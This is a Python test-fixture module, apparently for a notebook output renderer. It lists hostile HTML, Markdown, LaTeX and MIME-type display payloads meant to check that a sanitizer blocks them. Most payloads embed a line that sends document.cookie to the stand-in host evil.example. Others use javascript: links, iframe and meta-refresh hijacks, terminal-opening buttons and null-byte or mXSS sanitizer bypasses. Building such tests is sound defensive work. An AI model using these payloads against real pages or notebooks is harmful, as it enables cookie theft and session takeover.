"""Displays that a hostile machine may send: each tries to run something, to phone home, or to drive the notebook."""

from __future__ import annotations

import base64
from typing import Any

PIXEL = base64.b64encode(b"\x89PNG\r\n\x1a\n" + b"\0" * 20).decode()
CALL = "fetch('//evil.example/'+document.cookie)"
ONLOAD = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{CALL}"><script>{CALL}</script></svg>'

HTML = [
    f"<script>{CALL}</script>",
    f"<img src=x onerror={CALL}>",
    f'<a href="javascript:{CALL}">x</a>',
    f'"><script>{CALL}</script>',
    f"'><script>{CALL}</script>",
    f"</iframe><script>{CALL}</script>",
    f"</pre></iframe><script>{CALL}</script>",
    f"--><script>{CALL}</script>",
    f"&quot;&gt;<script>{CALL}</script>",
    f"&#34; sandbox=&#34;allow-scripts&#34; onload=&#34;{CALL}",
    f'" sandbox="allow-scripts allow-same-origin" onload="{CALL}',
    '<button data-commandlinker-command="terminal:create-new">x</button>',
    '<iframe src="http://localhost:8888/lab"></iframe>',
    f'<iframe srcdoc="<script>parent.{CALL}</script>"></iframe>',
    '<meta http-equiv="refresh" content="0;url=http://evil.example">',
    '<meta http-equiv="Content-Security-Policy" content="default-src *">',
    '<base href="http://evil.example/">',
    '<form action="http://localhost:8888/api/kernels" method=post><input type=submit></form>',
    '<object data="http://evil.example/x.swf"></object>',
    '<embed src="http://evil.example/x.pdf">',
    '<link rel=stylesheet href="http://evil.example/x.css">',
    "<style>@import url(http://evil.example/x.css);</style>",
    f"<video src=x onerror={CALL}></video>",
    f"<details open ontoggle={CALL}>",
    f"<svg/onload={CALL}>",
    f"<math><mtext></form><form><mglyph><style></math><img src onerror={CALL}>",
    "<template shadowrootmode=open><script>1</script></template>",
    f"\0<scr\0ipt>{CALL}</script>",
    f"\ud800<script>{CALL}</script>",
]

MARKDOWN = [
    f"<script>{CALL}</script>",
    f"text <img src=x onerror={CALL}>",
    f"[x](javascript:{CALL})",
    "[x](java&#115;cript:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "[y]\n\n[y]:javascript:alert(1)",
    "![x](http://evil.example/pixel.png)",
    "[![x](http://evil.example/a)](javascript:alert(1))",
    "<javascript:alert(1)>",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox)",
    '<button data-commandlinker-command="terminal:create-new">x</button>',
    f"<div\nonmouseover={CALL}>x</div>",
    "<!-- --><script>1</script>",
    "<?php ?><![CDATA[<script>1</script>]]>",
    f"$x<img src=x onerror={CALL}>$",
    f"<\0script>{CALL}</script>",
    f"a\n\n<\x1b[31mscript>{CALL}</script>",
]

LATEX = [
    r"$\href{javascript:alert(1)}{x}$",
    r"$\require{html}\href{javascript:alert(1)}{x}$",
    r"$\let\x=\href \x{javascript:alert(1)}{x}$",
    r"$\csname href\endcsname{javascript:alert(1)}{x}$",
    r"$\mmlToken{mi}[href='javascript:alert(1)']{x}$",
    r"$\class{jp-Button}{x}\cssId{id}{x}\style{position:fixed}{x}\data{a=b}{x}$",
    r"$\includegraphics{http://evil.example/x.png}$",
    "<script>alert(1)</script>",
]

WIDGET = {"model_id": "0" * 32, "version_major": 2, "version_minor": 0}

# Types that are not data, or values that are not what their type says: nothing of them is shown.
OTHER: list[dict[str, Any]] = [
    {"application/javascript": CALL},
    {"text/javascript": CALL},
    {"application/x-javascript": CALL},
    {"application/ecmascript": CALL},
    {"application/vnd.jupyter.widget-view+json": WIDGET},
    {"application/vnd.jupyter.widget-state+json": {"state": {}}},
    {"application/vnd.plotly.v1+json": {"data": [], "layout": {"images": [{"source": "http://evil.example"}]}}},
    {"application/vnd.vega.v5+json": {"data": [{"url": "http://evil.example"}]}},
    {"application/vnd.vegalite.v5+json": {"data": {"url": "http://evil.example"}}},
    {"application/vnd.bokehjs_exec.v0+json": CALL},
    {"application/vnd.holoviews_exec.v0+json": CALL},
    {"application/vnd.choline.job+json": {"id": "j-1"}},
    {"application/vnd.jupyter.error": {"traceback": []}},
    {"application/geo+json": {}},
    {"application/pdf": "JVBERi0="},
    {"application/xhtml+xml": f"<script>{CALL}</script>"},
    {"application/xml": ONLOAD},
    {"text/html; charset=utf-8": f"<script>{CALL}</script>"},
    {"TEXT/HTML": f"<script>{CALL}</script>"},
    {"text/html ": f"<script>{CALL}</script>"},
    {"text/html": [f"<script>{CALL}</script>"]},
    {"text/html": {"toString": CALL}},
    {"text/vnd.mermaid": 'graph TD; click A "javascript:alert(1)"'},
    {"image/svg+xml": [ONLOAD]},
    {"image/png": f'x" onerror="{CALL}'},
    {"image/png": base64.b64encode(ONLOAD.encode()).decode()},
    {"image/png": f'{PIXEL}"><script>{CALL}</script>'},
    {"image/jpeg": PIXEL},
    {"image/gif": "R0lGODlh é"},
    {"image/webp": base64.b64encode(b"RIFF").decode()},
    {"image/bmp": "Qk0="},
    {"image/x-icon": "AAAB"},
    {"video/mp4": "AAAA"},
    {f"x/<script>{CALL}</script>\x1b]0;t\x07\n": "x"},
]
